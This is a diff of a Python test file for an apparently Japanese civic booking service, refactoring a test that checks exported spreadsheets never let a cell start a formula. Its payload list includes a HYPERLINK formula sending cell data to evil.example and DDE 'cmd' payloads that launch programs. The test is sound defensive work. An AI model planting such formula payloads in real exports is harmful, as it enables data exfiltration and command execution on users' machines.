@@ -10,18 +10,14 @@ import json
 import uuid
 from datetime import date, timedelta
 
-import pytest
-
 from admin_api.app import PREFIX
 from bot.appkeys import CLOCK, DATABASE
-from bot.service import build_service
 from civic.booking.services import BookingService
 from civic.deliveries.models import Delivery, DeliveryRun
 from civic.staff.services import create_staff
 from civic.talklog.models import TalkEntry
 from richmenus.models import RichMenuTap
-from tests.booking.town import build_town, citizen
-from tests.bot.helpers import make_settings
+from tests.booking.town import citizen
 
 EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', "+cmd|' /C calc'!A0", "-2+3+cmd|x", "@SUM(1+1)*cmd|x",
         "＝HYPERLINK(\"x\")", "＋1＋cmd", "－1＋cmd", "＠SUM(1)", "\t=1+1", "\r=1+1"]
@@ -36,22 +32,8 @@ PARAMS: dict[str, dict[str, str]] = {
 DANGEROUS = tuple("=+-@\t\r＝＋－＠")
 
 
-@pytest.fixture(scope="module")
-def knowledge():
-    from bot.dialogue_wiring import build_knowledge
-
-    return build_knowledge(make_settings("sqlite+aiosqlite://"))
-
-
-async def test_no_export_lets_a_cell_start_a_formula(aiohttp_client, sqlite_db, knowledge, monkeypatch) -> None:
-    from argon2 import PasswordHasher
-
-    from civic.staff import passwords
-
-    monkeypatch.setattr(passwords, "PasswordHasher", lambda: PasswordHasher(time_cost=1, memory_cost=8, parallelism=1))
-    town = await build_town(sqlite_db)
-    app = build_service(make_settings(sqlite_db.url), knowledge=knowledge, clock=town.clock)
-    client = await aiohttp_client(app)
+async def test_no_export_lets_a_cell_start_a_formula(service) -> None:
+    app, client, town = service.app, service.client, service.town
     db, clock = app[DATABASE], app[CLOCK]
     now = clock.now()
     await create_staff(db, clock, "kanri", "staff-pass-2026", "管理", "admin")
